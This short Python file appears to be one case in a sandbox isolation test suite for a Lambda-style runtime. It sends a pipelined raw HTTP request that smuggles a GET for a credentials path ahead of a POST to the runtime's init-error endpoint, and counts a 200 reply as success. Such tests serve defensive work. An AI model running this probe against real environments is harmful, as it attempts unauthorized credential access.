# class: lambda
# rule: runtime_api
# success: a request whose path contains the path of the credentials reaches the Runtime API
# proof: api
import socket

from attack import API, attempt


@attempt
def connect():
    out = socket.create_connection(API, 3)
    out.sendall(
        b"GET /2021-04-23/credentials HTTP/1.1\r\nHost: x\r\n\r\nPOST"
        b" /2018-06-01/runtime/init/error HTTP/1.1\r\n\r\n"
    )
    return b"200" in out.recv(100)
